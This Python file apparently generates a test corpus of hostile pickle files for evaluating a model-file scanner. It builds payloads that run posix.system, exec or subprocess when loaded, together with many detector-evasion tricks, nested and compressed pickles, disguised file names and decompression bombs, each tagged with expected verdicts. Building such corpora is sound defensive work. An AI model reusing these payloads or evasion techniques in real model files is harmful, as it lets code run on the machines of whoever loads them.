"""Raw pickles that run code when loaded, or hide that they do. Hand-assembled."""

import base64
import binascii
import bz2
import gzip
import pickle
import struct
import types
import zlib

import gadgets
import pickles as P
from corpus import BAD, DAMAGED, Corpus
from markers import COMMAND, FILE, PYTHON, PYTHON_SYSTEM, code_object
from pickles import Build, Call, Global


def make(c: Corpus):
    _gadgets(c)
    _indirect(c)
    _opcodes(c)
    _names(c)
    _build(c)
    _framing(c)
    _streams(c)
    _nested(c)
    _code_objects(c)
    _file_names(c)
    _damaged(c)
    _bombs(c)
    _unknown_classes(c)


# Loading maps these to new names; a finding may show either.
PYTHON2_MODULES = {"__builtin__", "commands", "cPickle", "urllib"}


def evil(protocol=4):
    """The plainest malicious pickle: posix.system(marker)."""
    return P.call("posix", "system", COMMAND, protocol=protocol)


def _gadgets(c):
    for protocol in range(6):
        c.malicious(f"pickle/os-system-p{protocol}.pkl", evil(protocol), ["pickle"], "posix.system", "every protocol")
        c.malicious(f"pickle/builtins-exec-p{protocol}.pkl", P.call("builtins", "exec", PYTHON, protocol=protocol), ["pickle"], "builtins.exec")
    families = {"command": gadgets.COMMANDS, "code": gadgets.CODE, "loader": gadgets.LOADERS, "network-file": gadgets.NETWORK_AND_FILES}
    for family, rows in families.items():
        verdict = BAD if family == "network-file" else ("malicious",)
        for index, (module, name, arguments, reference) in enumerate(rows):
            # Dotted names exist only from protocol 4 on.
            protocol = 4 if "." in name else (0, 2, 3, 4, 1, 5)[index % 6]
            data = P.call(module, name, *arguments, protocol=protocol)
            evidence = name if module in PYTHON2_MODULES else f"{module}.{name}"
            c.malicious(f"pickle-gadget/{family}/{module}.{name}.pkl", data, ["pickle"], evidence, reference or "gadget called at load", verdict)


def _indirect(c):
    for index, (name, value) in enumerate(gadgets.INDIRECT.items()):
        c.malicious(f"pickle-gadget/indirect/{name}.pkl", P.dump(value, (4, 2, 3)[index % 3]), ["pickle"], None,
                    "the dangerous callable is reached in two steps", BAD if name in ("globals", "type-three-arguments", "sorted-key", "operator-attrgetter") else ("malicious",))


def _opcodes(c):
    command = P.text(COMMAND, 2)
    system = P.global_("posix", "system", 2)
    string = b"S'" + COMMAND.encode() + b"'\n"
    joined = Call(Call(Global("operator", "attrgetter"), ("join",)), ("",))
    samples = {
        "global-reduce": system + command + P.TUPLE1 + P.REDUCE,
        "inst": P.MARK + string + b"iposix\nsystem\n",
        "inst-module-after-garbage": b"I1\n" + P.POP + P.MARK + string + b"iposix\nsystem\n",
        "obj": P.MARK + system + command + P.OBJ,
        "newobj": P.global_("subprocess", "Popen", 2) + P.push((COMMAND,), 2) + P.NEWOBJ,
        "newobj-ex": P.global_("subprocess", "Popen", 4) + P.push(([COMMAND],), 4) + P.push({"shell": True}, 4) + P.NEWOBJ_EX,
        "obj-then-pop": P.MARK + system + command + P.OBJ + P.POP + P.NONE,
        "reduce-then-pop": system + command + P.TUPLE1 + P.REDUCE + P.POP + P.EMPTY_DICT,
        "reduce-then-pop-mark": P.MARK + system + command + P.TUPLE1 + P.REDUCE + P.POP_MARK + P.EMPTY_LIST,
        "global-popped-then-memo-call": system + P.put(0) + P.POP + P.get(0) + command + P.TUPLE1 + P.REDUCE,
        "dup-function": system + P.DUP + P.POP + command + P.TUPLE1 + P.REDUCE,
        "stack-global-through-memo": P.text("system") + P.put(0) + P.POP + P.text("posix") + P.put(1) + P.POP + P.get(1) + P.get(0) + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "stack-global-memoize-mix": P.text("posix") + P.MEMOIZE + P.text("system") + P.MEMOIZE + P.POP + P.POP + P.get(0) + P.get(1) + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "memo-put-overwrites-memoize": P.text("collections") + P.MEMOIZE + P.POP + P.text("posix") + P.put(0) + P.POP + P.get(0) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "memo-high-put-then-memoize": P.text("collections") + P.put(1) + P.POP + P.text("posix") + P.MEMOIZE + P.POP + P.get(1) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "long-binput-memo": P.text("posix") + b"r" + struct.pack("<I", 70000) + P.POP + b"j" + struct.pack("<I", 70000) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "text-put-get": b"Vposix\np5\n0g5\nVsystem\n" + P.STACK_GLOBAL + string + P.TUPLE1 + P.REDUCE,
        "stack-global-short-binstring": b"U\x05posixU\x06system" + P.STACK_GLOBAL + b"U" + bytes([len(COMMAND)]) + COMMAND.encode() + P.TUPLE1 + P.REDUCE,
        "stack-global-string-operands": b"S'posix'\nS'system'\n" + P.STACK_GLOBAL + string + P.TUPLE1 + P.REDUCE,
        "stack-global-binunicode8": b"\x8d" + struct.pack("<Q", 5) + b"posix" + b"\x8d" + struct.pack("<Q", 6) + b"system" + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "stack-global-bytes-decoded": P.push(Call(Global("_codecs", "decode"), (b"posix",)), 4) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "stack-global-joined-strings": P.push(Call(Global("operator", "concat"), ("po", "six")), 4) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "stack-global-str-join": P.push(Call(joined, (["po", "six"],)), 4) + P.text("system") + P.STACK_GLOBAL + P.text(COMMAND) + P.TUPLE1 + P.REDUCE,
        "ext1-registered": P.push(Call(Global("copyreg", "add_extension"), ("posix", "system", 7)), 2) + P.POP + b"\x82\x07" + command + P.TUPLE1 + P.REDUCE,
        "ext2-registered": P.push(Call(Global("copyreg", "add_extension"), ("posix", "system", 700)), 2) + P.POP + b"\x83" + struct.pack("<H", 700) + command + P.TUPLE1 + P.REDUCE,
        "ext4-registered": P.push(Call(Global("copyreg", "add_extension"), ("posix", "system", 70000)), 2) + P.POP + b"\x84" + struct.pack("<i", 70000) + command + P.TUPLE1 + P.REDUCE,
        "copyreg-inverted-registry": P.push(Global("copyreg", "_inverted_registry"), 2) + P.push(9, 2) + P.push(("posix", "system"), 2) + P.SETITEM + P.POP + b"\x82\x09" + command + P.TUPLE1 + P.REDUCE,
        "copyreg-dispatch-table": P.push(Global("copyreg", "dispatch_table"), 2) + P.push(Global("builtins", "int"), 2) + system + P.SETITEM,
        "persistent-id-call": system + command + P.TUPLE1 + P.REDUCE + P.BINPERSID,
        "persid-text-then-call": b"Pmarker\n0" + system + command + P.TUPLE1 + P.REDUCE,
        "setitem-on-module-dict": P.push(Global("builtins", "__dict__"), 4) + P.text("len") + P.push(Global("os", "system"), 4) + P.SETITEM,
        "setitem-on-non-dict": P.push(Global("sys", "modules"), 4) + P.text("re") + P.push(Global("os", "path"), 4) + P.SETITEM,
        "append-on-function-object": P.push(Global("sys", "path"), 4) + P.text("/tmp/weighbridge-marker") + P.APPEND,
        "appends-to-meta-path": P.push(Global("sys", "meta_path"), 4) + P.MARK + P.text("x") + P.APPENDS,
        "additems": b"\x8f" + P.MARK + P.push(Call(Global("posix", "system"), (COMMAND,)), 4) + b"\x90",
        "inside-a-dict-value": P.push({"weights": [1, 2], "meta": Call(Global("posix", "system"), (COMMAND,))}, 4),
        "inside-a-dict-key": P.EMPTY_DICT + P.push(Call(Global("posix", "system"), (COMMAND,)), 4) + P.NONE + P.SETITEM,
        "bytearray8-operand": b"\x96" + struct.pack("<Q", 3) + b"abc" + P.POP + P.push(Call(Global("posix", "system"), (COMMAND,)), 4),
        "next-buffer": b"\x97\x98" + P.POP + P.push(Call(Global("posix", "system"), (COMMAND,)), 4),
        "proto-in-the-middle": b"\x80\x04" + system + b"\x80\x02" + command + P.TUPLE1 + P.REDUCE,
        "proto-lies-0-uses-5": b"\x80\x00" + P.push(Call(Global("posix", "system"), (COMMAND,)), 4),
        "proto-255": b"\x80\xff" + P.push(Call(Global("posix", "system"), (COMMAND,)), 4),
        "list-of-calls": P.push([1, Call(Global("posix", "system"), (COMMAND,)), 2], 2),
        "reduce-on-partial-stack": P.MARK + system + command + P.TUPLE1 + P.REDUCE + b"l",
    }
    wants_proto4 = b"\x80\x04"
    for name, opcodes in samples.items():
        head = b"" if opcodes.startswith(b"\x80") or name in ("inst", "inst-module-after-garbage", "text-put-get", "persid-text-then-call") else wants_proto4
        evidence = "posix.system" if b"posix" in opcodes else None
        verdict = ("malicious",)
        if name in ("append-on-function-object", "appends-to-meta-path", "copyreg-dispatch-table", "stack-global-joined-strings",
                    "stack-global-str-join", "stack-global-bytes-decoded", "proto-255", "copyreg-inverted-registry", "setitem-on-non-dict"):
            verdict, evidence = BAD, None
        if name.startswith("newobj"):
            evidence = "subprocess.Popen"
        if name in ("ext1-registered", "ext2-registered", "ext4-registered"):
            evidence = None
        c.malicious(f"pickle-opcodes/{name}.pkl", head + opcodes + P.STOP, ["pickle"], evidence, "opcode trick", verdict)


def _names(c):
    dotted = {
        "re-export-numpy-os": ("numpy.core.x", "os.system"),
        "re-export-dotted": ("collections", "_sys.modules"),
        "dotted-os": ("os", "path.os.system"),
        "dotted-random-os": ("random", "_os.system"),
        "dotted-sklearn": ("sklearn.utils", "os.system"),
        "dotted-torch-os": ("torch.serialization", "os.system"),
        "dotted-torch-subprocess": ("torch.utils.cpp_extension", "subprocess.call"),
        "dotted-builtins": ("collections", "__builtins__.eval"),
        "numpy-builtins": ("numpy", "__builtins__"),
        "logging-os": ("logging", "os.system"),
        "dunder-class-walk": ("builtins", "object.__subclasses__"),
        "getattribute": ("builtins", "object.__getattribute__"),
        "function-globals": ("collections", "namedtuple.__globals__"),
        "main-module": ("__main__", "os.system"),
        "joblib-re-export": ("joblib.externals.loky.backend.utils", "subprocess.Popen"),
    }
    for name, (module, attribute) in dotted.items():
        verdict = ("malicious",) if attribute.split(".")[-1] in ("system", "eval", "call", "Popen") else BAD
        c.malicious(f"pickle-names/{name}.pkl", P.call(module, attribute, COMMAND), ["pickle"], attribute, "name resolved attribute by attribute", verdict)
    c.malicious("pickle-names/re-export-from-library.pkl", P.call("numpy.core.x", "os", protocol=2), ["pickle"], "numpy.core.x", "a module re-exported by an allowed package", BAD)
    escaped = b"V\\u0070osix\nVsy\\u0073tem\n" + P.STACK_GLOBAL + b"V" + COMMAND.encode() + b"\n" + P.TUPLE1 + P.REDUCE + P.STOP
    c.malicious("pickle-names/escaped-unicode-p0.pkl", escaped, ["pickle"], "posix.system", "raw-unicode-escape hides the letters")
    string = b"S'\\x70osix'\nS'sys\\164em'\n" + P.STACK_GLOBAL + b"S'" + COMMAND.encode() + b"'\n" + P.TUPLE1 + P.REDUCE + P.STOP
    c.malicious("pickle-names/escaped-string-p0.pkl", string, ["pickle"], "posix.system", "string escapes hide the letters (GHSA-9gvj)")
    c.malicious("pickle-names/bom-and-case.pkl", P.call("OS", "System", COMMAND, protocol=2), ["pickle"], None, "wrong case: not importable on Linux, still no honest file", BAD)
    c.malicious("pickle-names/python2-os.pkl", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.", ["pickle"], "os.system")
    c.malicious("pickle-names/space-in-module.pkl", b"cos \nsystem\n(S'" + COMMAND.encode() + b"'\ntR.", ["pickle"], None, "trailing blank in the module", BAD)
    c.malicious("pickle-names/crlf-global.pkl", b"cos\r\nsystem\r\n(S'" + COMMAND.encode() + b"'\ntR.", ["pickle"], None, "carriage returns", BAD)
    c.malicious("pickle-names/non-ascii-module.pkl", P.call("ｏs", "system", COMMAND), ["pickle"], None, "full-width letter; NFKC makes it os", BAD)
    c.malicious("pickle-names/denied-submodule.pkl", P.call("asyncio.base_events", "BaseEventLoop.subprocess_exec", COMMAND), ["pickle"], "asyncio.base_events", "CVE-2025-10157")
    c.malicious("pickle-names/private-stdlib.pkl", P.call("_posixshmem", "shm_open", FILE), ["pickle"], "_posixshmem", "fickling GHSA-6ggj", BAD)


def _build(c):
    empty = Call(Global("copyreg", "_reconstructor"), (Global("argparse", "Namespace"), Global("builtins", "object"), None))
    samples = {
        "setstate-through-dict": (Build(Build(empty, {"__setstate__": Global("os", "system")}), COMMAND), ("malicious",)),
        "slotstate": (Build(empty, (None, {"__setstate__": Global("os", "system")})), ("malicious", "suspicious")),
        "setattr-on-function": (Build(Global("numpy", "prod"), (None, {"__defaults__": (COMMAND,)})), BAD),
        "function-code-replaced": (Build(Global("collections", "namedtuple"), (None, {"__code__": Call(Global("marshal", "loads"), (b"N",))})), ("malicious",)),
        "setattr-on-class": (Build(Global("collections", "OrderedDict"), (None, {"__getitem__": Global("os", "system")})), ("malicious", "suspicious")),
        "setattr-on-module-function": (Build(Global("torch", "save"), {"__wrapped__": Global("os", "system")}), ("malicious", "suspicious")),
        "class-getattr": (Build(Global("argparse", "Namespace"), {"__getattr__": Global("os", "system")}), ("malicious", "suspicious")),
        "torch-rebuild-hook": (Call(Global("torch._utils", "_rebuild_tensor_v2"), (None, 0, (1,), (1,), False, Build(Call(Global("collections", "OrderedDict"), ()), {"__setstate__": Global("os", "system")}))), ("malicious", "suspicious")),
        "set-state-calls-eval": (Build(Call(Global("logging", "Formatter"), ()), {"__reduce__": Global("builtins", "eval")}), ("malicious", "suspicious")),
    }
    for name, (value, verdict) in samples.items():
        c.malicious(f"pickle-build/{name}.pkl", P.dump(value, 4), ["pickle"], None, "BUILD as a call or as setattr (modelscan #85, fickling GHSA-mhc9)", verdict)
    appended = P.push(Call(Global("posix", "system"), (COMMAND,)), 4) + P.EMPTY_DICT + P.BUILD + P.STOP
    c.malicious("pickle-build/one-appended-build.pkl", b"\x80\x04" + appended, ["pickle"], "posix.system", "fickling GHSA-mhc9: the call result is hidden by one BUILD")


def _framing(c):
    body = P.push(Call(Global("posix", "system"), (COMMAND,)), 4) + P.STOP
    frame = lambda size: b"\x95" + struct.pack("<Q", size)  # noqa: E731
    half = len(body) // 2
    samples = {
        "frame-too-long": b"\x80\x04" + frame(len(body) + 1000) + body,
        "frame-too-short": b"\x80\x04" + frame(3) + body,
        "frame-zero": b"\x80\x04" + frame(0) + body,
        "frame-max": b"\x80\x04" + frame(2**64 - 1) + body,
        "frame-nested": b"\x80\x04" + frame(len(body) + 9) + frame(len(body)) + body,
        "frame-straddles-opcode": b"\x80\x04" + frame(half) + body[:half] + body[half:],
        "frames-one-opcode-each": b"\x80\x04" + b"".join(frame(len(o)) + o for o in (P.text("posix"), P.text("system"), P.STACK_GLOBAL, P.text(COMMAND), P.TUPLE1, P.REDUCE, P.STOP)),
        "frame-in-protocol-2": b"\x80\x02" + frame(len(body)) + body,
    }
    for name, data in samples.items():
        c.malicious(f"pickle-framing/{name}.pkl", data, ["pickle"], "posix.system" if name in ("frame-zero", "frames-one-opcode-each", "frame-nested", "frame-in-protocol-2") else None,
                    "FRAME lies; the C unpickler is more lenient than the Python one", BAD)


def _streams(c):
    harmless = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    bad = evil()
    no_stop = P.push(Call(Global("posix", "system"), (COMMAND,)), 2)
    samples = {
        "second-stream": harmless + bad,
        "third-stream-p0": harmless + pickle.dumps([1], 2) + evil(0),
        "padding-between-streams": harmless + bytes(64) + bad,
        "junk-between-streams": harmless + b"\n# comment\n\xff\xfe" + bad,
        "thousand-streams-then-evil": pickle.dumps(None, 2) * 1000 + bad,
        "missing-stop": b"\x80\x02" + no_stop,
        "truncated-after-call": b"\x80\x02" + no_stop + b"X\xff\xff\x00\x00abc",
        "invalid-opcode-after-call": b"\x80\x02" + no_stop + b"\xfe\xfd",
        "broken-after-call-nullifai": b"\x80\x04" + P.push(Call(Global("posix", "system"), (COMMAND,)), 4) + b"\x8c\x20short",
        "call-after-invalid-get": b"\x80\x02" + P.get(9) + no_stop + P.STOP,
        "stop-then-raw-bytes": bad + bytes(range(256)),
        "leading-newline": b"\n" + evil(0),
        "leading-nul": bytes(16) + bad,
    }
    for name, data in samples.items():
        verdict = BAD if name in ("leading-newline", "leading-nul", "call-after-invalid-get", "junk-between-streams", "padding-between-streams") else ("malicious",)
        if name in ("leading-nul", "leading-newline"):
            verdict = DAMAGED
        c.malicious(f"pickle-streams/{name}.pkl", data, ["pickle"] if not name.startswith("leading") else [], "posix.system" if verdict == ("malicious",) else None,
                    "what a loader runs before, between or after errors", verdict)


def _nested(c):
    inner = evil(2)
    holders = {
        "raw-bytes": inner,
        "base64": base64.b64encode(inner),
        "hex": binascii.hexlify(inner),
        "zlib": zlib.compress(inner),
        "base64-zlib": base64.b64encode(zlib.compress(inner)),
        "gzip": gzip.compress(inner, mtime=0),
        "bz2": bz2.compress(inner),
    }
    for name, payload in holders.items():
        loader = Call(Global("pickle", "loads"), (payload,))
        c.malicious(f"pickle-nested/loads-{name}.pkl", P.dump(loader, 4), ["pickle"], "pickle.loads", "a pickle in a pickle")
        c.malicious(f"pickle-nested/string-only-{name}.pkl", P.dump({"blob": payload}, 4), ["pickle"], None,
                    "the inner pickle is data until something loads it", ("malicious", "suspicious") if name in ("raw-bytes", "base64", "hex") else ("malicious", "suspicious", "clean"))
    decoded = Call(Global("pickle", "loads"), (Call(Global("zlib", "decompress"), (Call(Global("base64", "b64decode"), (base64.b64encode(zlib.compress(inner)),)),)),))
    c.malicious("pickle-nested/loads-of-decompress-of-b64decode.pkl", P.dump(decoded, 4), ["pickle"], "pickle.loads")
    twice = P.dump(Call(Global("pickle", "loads"), (P.dump(Call(Global("pickle", "loads"), (inner,)), 4),)), 4)
    c.malicious("pickle-nested/three-levels.pkl", twice, ["pickle"], "pickle.loads")
    text = P.dump(Call(Global("pickle", "loads"), (Call(Global("_codecs", "encode"), (inner.decode("latin-1"), "latin1")),)), 2)
    c.malicious("pickle-nested/latin1-text.pkl", text, ["pickle"], "pickle.loads")


def _code_objects(c):
    """Functions by value, as cloudpickle and dill write them. Compiled, never run."""
    import cloudpickle
    import dill

    bodies = {"harmless": "x + 1", "hostile": PYTHON_SYSTEM}
    for name, body in bodies.items():
        compiled = compile(f"lambda x: {body}", "<marker>", "eval")
        function = types.FunctionType(compiled.co_consts[0], {"__builtins__": {}, "__name__": "__main__"}, name)
        verdict = BAD
        c.malicious(f"code-objects/cloudpickle-{name}.pkl", cloudpickle.dumps(function), ["pickle"], "cloudpickle", "opaque code: a function by value", verdict)
        c.malicious(f"code-objects/dill-{name}.dill", dill.dumps(function, recurse=True), ["pickle"], "dill", "opaque code: a function by value", verdict)

    class Evil:
        def __reduce__(self):
            import os

            return os.system, (COMMAND,)

    c.malicious("code-objects/dill-reduce.dill", dill.dumps(Evil()), ["pickle"], "posix.system", "dill, real library")
    c.malicious("code-objects/cloudpickle-reduce.pkl", cloudpickle.dumps(Evil()), ["pickle"], "posix.system", "cloudpickle, real library")
    marshalled = code_object(PYTHON)
    c.malicious("code-objects/marshal-raw.bin", marshalled, [], None, "marshalled code without any container", (*BAD, "unknown", "clean"))
    runs = Call(Call(Global("types", "FunctionType"), (Call(Global("marshal", "loads"), (marshalled,)), {})), ())
    c.malicious("code-objects/marshal-function-call.pkl", P.dump(runs, 4), ["pickle"], "marshal.loads", "fickling GHSA-565g")
    c.malicious("code-objects/exec-marshal.pkl", P.dump(Call(Global("builtins", "exec"), (Call(Global("marshal", "loads"), (marshalled,)),)), 4), ["pickle"], "marshal.loads")


def _file_names(c):
    """The same bytes under names that scanners skip or mistrust."""
    for name in ("pytorch_model.bin", "model.pt", "weights.ckpt", "no-extension", "data.dat", "UPPER.PKL", "model.safetensors", "model.gguf",
                 "model.onnx", "model.h5", "image.png", "notes.txt", "model.p", "model.joblib", "model.npy", "archive.zip", "config.json"):
        c.malicious(f"file-names/{name}", evil(2), ["pickle"], "posix.system", "CVE-2025-10155: content decides, not the name")
    c.malicious("file-names/protocol0.bin", evil(0), ["pickle"], "posix.system", "protocol 0 has no magic")
    c.malicious("file-names/protocol0-no-extension", evil(0), ["pickle"], "posix.system")
    c.malicious("file-names/white space & ünïcode ‮gnp.pkl", evil(2), ["pickle"], "posix.system", "hostile name: blanks, accents, bidi override")


def _damaged(c):
    good = pickle.dumps({"weights": list(range(50))}, 4)
    p2 = pickle.dumps({"name": "x" * 40, "big": 1 << 90}, 2)
    samples = {
        "truncated": good[:40], "only-proto": b"\x80\x04", "only-proto-frame": good[:11], "truncated-string": p2[:20],
        "missing-stop": p2[:-1], "pop-on-empty": b"\x80\x020.", "get-missing-memo": b"\x80\x02h\x05.", "no-mark": b"\x80\x02u.",
        "tuple-without-mark": b"\x80\x02t.", "reduce-on-empty": b"\x80\x02R.", "stop-on-empty": b"\x80\x04.",
        "negative-long4": b"\x80\x02\x8b\xff\xff\xff\xff.", "string-2gib": b"\x80\x02X\xff\xff\xff\x7fabc", "bytes8-2^63": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 63) + b"a",
        "bytearray8-2^63": b"\x80\x05\x96" + struct.pack("<Q", 1 << 63) + b"a", "put-negative": b"(dp-1\n.", "put-2^32-1": b"\x80\x02}r\xff\xff\xff\xff.",
        "string-without-quotes": b"(lp0\nSmarker\na.", "bad-escape": b"(lp0\nS'\\x'\na.", "unknown-ext-code": b"\x80\x02\x82\x63.",
        "stack-global-of-integers": b"\x80\x04K\x01K\x02\x93.",
    }
    for name, data in samples.items():
        c.malicious(f"damaged/pickle/{name}.pkl", data, [], None, "damaged: a check that could not run is not a pass", DAMAGED)
    c.malicious("damaged/pickle/surrogate-unicode.pkl", b"\x80\x02X\x03\x00\x00\x00\xed\xa0\x80.", [], None, "no UTF-8, but lone surrogates are legal in pickles", (*DAMAGED, "clean"))


def _bombs(c):
    laughs = bytearray(b"\x80\x02(K\x01l")
    for index in range(40):
        laughs += P.put(index) + b"(" + P.get(index) * 10 + b"l"
    c.malicious("bombs/pickle/billion-laughs.pkl", bytes(laughs) + b"\x30" + b"N.", ["pickle"], None, "fickling #111: 40 levels of ten references", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/deep-nesting.pkl", b"\x80\x02" + b"]" * 20000 + b"a" * 19999 + b".", ["pickle"], None, "20,000 nested lists", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/dup-storm.pkl", b"\x80\x02N" + b"2" * 40000 + b".", ["pickle"], None, "40,000 DUPs", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/long-integer-text.pkl", b"I" + b"9" * 40000 + b"\n.", ["pickle"], None, "a text integer of 40,000 digits", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/tuple-doubling.pkl", b"\x80\x02K\x01" + b"2\x86" * 200 + b".", ["pickle"], None, "2^200 leaves", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/bytearray-10gb.pkl", P.dump(Call(Global("builtins", "bytearray"), (2000000000,)), 4), ["pickle"], None, "allocation at load", ("suspicious", "unknown", "malicious", "clean"))
    c.malicious("bombs/pickle/marks-then-evil.pkl", b"\x80\x02" + b"(" * 20000 + b"1" * 20000 + evil(2)[2:], ["pickle"], "posix.system", "30,000 marks before the call")
    c.malicious("bombs/pickle/many-opcodes-then-evil.pkl", b"\x80\x02" + b"N0" * 20000 + evil(2)[2:], ["pickle"], "posix.system", "work before the call")


def _unknown_classes(c):
    """Not known to be dangerous and not known to be safe."""
    c.malicious("pickle-unknown/private-package-class.pkl", P.call("acme_research.models", "Predictor", 1), ["pickle"], "acme_research.models", "unknown class", BAD)
    c.malicious("pickle-unknown/main-class.pkl", P.dump(Build(Call(Global("copyreg", "_reconstructor"), (Global("__main__", "Net"), Global("builtins", "object"), None)), {"w": 1}), 2), ["pickle"], "__main__.Net", "a class of the training script", BAD)
    c.malicious("pickle-unknown/reference-without-call.pkl", P.dump({"callback": Global("os", "system")}, 4), ["pickle"], None, "the import alone; nothing calls it here", BAD)
    c.malicious("pickle-unknown/yolo-style-module.pkl", P.dump(Build(Call(Global("copyreg", "_reconstructor"), (Global("models.yolo", "Model"), Global("builtins", "object"), None)), {"nc": 80}), 2), ["pickle"], "models.yolo", "third-party detector class", BAD)
